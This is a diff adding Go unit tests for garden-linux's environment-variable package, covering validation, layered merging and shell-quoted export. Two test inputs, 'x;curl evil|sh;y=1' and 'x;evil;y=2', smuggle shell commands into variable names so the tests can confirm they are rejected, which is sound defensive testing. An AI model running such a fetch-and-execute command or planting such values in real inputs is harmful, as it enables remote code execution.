@@ -0,0 +1,98 @@
+package env_test
+
+import (
+	. "github.com/onsi/ginkgo"
+	. "github.com/onsi/gomega"
+
+	"github.com/cloudfoundry-incubator/garden-linux/old/linux_backend/env"
+)
+
+var _ = Describe("Environment variables", func() {
+	Describe("validating", func() {
+		It("accepts well-formed variables", func() {
+			err := env.Validate([]string{"A=1", "B=", "C=x=y"})
+			Ω(err).ShouldNot(HaveOccurred())
+		})
+
+		It("rejects a variable without an '='", func() {
+			err := env.Validate([]string{"A=1", "B"})
+			Ω(err).Should(Equal(env.MalformedEnvironmentVariableError{Var: "B"}))
+		})
+
+		It("rejects a variable with an empty name", func() {
+			err := env.Validate([]string{"=1"})
+			Ω(err).Should(Equal(env.MalformedEnvironmentVariableError{Var: "=1"}))
+		})
+
+		It("rejects a variable whose name is not a shell variable name", func() {
+			err := env.Validate([]string{"A=1", "x;curl evil|sh;y=1"})
+			Ω(err).Should(Equal(env.InvalidEnvironmentVariableNameError{Name: "x;curl evil|sh;y"}))
+
+			err = env.Validate([]string{"1A=1"})
+			Ω(err).Should(Equal(env.InvalidEnvironmentVariableNameError{Name: "1A"}))
+		})
+	})
+
+	Describe("merging", func() {
+		It("gives later layers precedence over earlier ones", func() {
+			merged, err := env.Merge(
+				[]string{"IMAGE=image", "SHARED=image"},
+				[]string{"CONTAINER=container", "SHARED=container"},
+				[]string{"PROCESS=process", "SHARED=process"},
+			)
+			Ω(err).ShouldNot(HaveOccurred())
+
+			Ω(merged).Should(Equal([]string{
+				"IMAGE=image",
+				"SHARED=process",
+				"CONTAINER=container",
+				"PROCESS=process",
+			}))
+		})
+
+		It("gives the last occurrence within a layer precedence", func() {
+			merged, err := env.Merge([]string{"A=1", "B=2", "A=3"})
+			Ω(err).ShouldNot(HaveOccurred())
+
+			Ω(merged).Should(Equal([]string{"A=3", "B=2"}))
+		})
+
+		It("preserves values containing '='", func() {
+			merged, err := env.Merge([]string{"A=b=c"})
+			Ω(err).ShouldNot(HaveOccurred())
+
+			Ω(merged).Should(Equal([]string{"A=b=c"}))
+		})
+
+		It("returns an empty list when there is nothing to merge", func() {
+			merged, err := env.Merge()
+			Ω(err).ShouldNot(HaveOccurred())
+
+			Ω(merged).Should(BeEmpty())
+		})
+
+		Context("when any layer contains a malformed variable", func() {
+			It("returns an error", func() {
+				_, err := env.Merge([]string{"A=1"}, []string{"bogus"})
+				Ω(err).Should(Equal(env.MalformedEnvironmentVariableError{Var: "bogus"}))
+			})
+		})
+	})
+
+	Describe("exporting", func() {
+		It("renders each variable as a quoted export statement", func() {
+			Ω(env.Exports([]string{"A=1", "B=it's", "C=multi\nline"})).Should(Equal(
+				"export A='1'\n" +
+					"export B='it'\"'\"'s'\n" +
+					"export C='multi\nline'\n",
+			))
+		})
+
+		It("leaves out variables whose names are not shell variable names", func() {
+			Ω(env.Exports([]string{"A=1", "x;evil;y=2", "_B=3"})).Should(Equal(
+				"export A='1'\n" +
+					"export _B='3'\n",
+			))
+		})
+	})
+})